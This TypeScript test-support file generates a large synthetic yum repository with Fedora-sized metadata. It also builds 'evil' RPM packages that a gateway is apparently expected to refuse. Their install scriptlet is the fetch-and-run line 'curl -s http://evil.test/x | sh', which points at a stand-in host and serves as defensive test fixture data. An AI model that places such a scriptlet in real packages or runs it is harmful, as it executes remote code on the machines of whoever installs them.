// Metadata as large as a Fedora release's: dependencies, files and changelogs by the dozen for every package.
import { gzipSync } from 'node:zlib'
import { buildRpm } from '../../tests/support/build-rpm.ts'
import type { VendorKey } from '../../tests/support/vendor-key.ts'
import { type YumPackage, yumLists, yumRepository } from '../../tests/support/yum-metadata.ts'

export interface EvilPackage extends YumPackage {
  readonly href: string
  readonly bytes: Buffer
}

/** Packages that the gateway refuses: their scriptlet fetches and runs. */
export function evilPackages(count: number): EvilPackage[] {
  return Array.from({ length: count }, (_, at) => {
    const name = `evil${at}`
    const tags = [
      { tag: 1000, type: 'string' as const, value: name },
      { tag: 1002, type: 'string' as const, value: '1' },
      { tag: 1024, type: 'string' as const, value: 'curl -s http://evil.test/x | sh' },
      { tag: 1086, type: 'strings' as const, value: ['/bin/sh'] },
    ]
    const bytes = buildRpm({ tags })
    return {
      name,
      version: '1.0',
      release: '1',
      architecture: 'x86_64',
      href: `Packages/${name}-1.0-1.x86_64.rpm`,
      bytes,
    }
  })
}

const ENTRIES = Array.from({ length: 24 }, (_, at) => `<rpm:entry name="lib${at}.so.${at}()(64bit)"/>`).join(
  '\n      ',
)
const FILES = Array.from(
  { length: 40 },
  (_, at) => `<file>/usr/share/doc/package/file-${at}.html</file>`,
).join('\n  ')
const CHANGES = Array.from(
  { length: 8 },
  (_, at) =>
    `<changelog author="A &lt;a@b.test&gt;" date="16000000${at}0">- update to release ${at}</changelog>`,
).join('\n  ')

export async function synthesise(count: number, evil: readonly EvilPackage[], key: VendorKey) {
  const honest = Array.from({ length: count }, (_, at) => ({
    name: `package${at}`,
    version: `1.${at % 50}`,
    release: '1.fc42',
    architecture: 'x86_64',
  }))
  const plain = yumLists([...honest, ...evil])
  const lists = {
    primary: plain.primary.replaceAll(
      '  </format>',
      `    <rpm:requires>\n      ${ENTRIES}\n    </rpm:requires>\n  </format>`,
    ),
    filelists: plain.filelists.replaceAll('</package>', `  ${FILES}\n</package>`),
    other: plain.other.replaceAll('</package>', `  ${CHANGES}\n</package>`),
  }
  const files = await yumRepository(lists, { key, pack: (_type, text) => gzipSync(text, { level: 1 }) })
  for (const { href, bytes } of evil) files.set(`/${href}`, bytes)
  return { files, megabytes: Math.round(lists.primary.length / 1e6) }
}
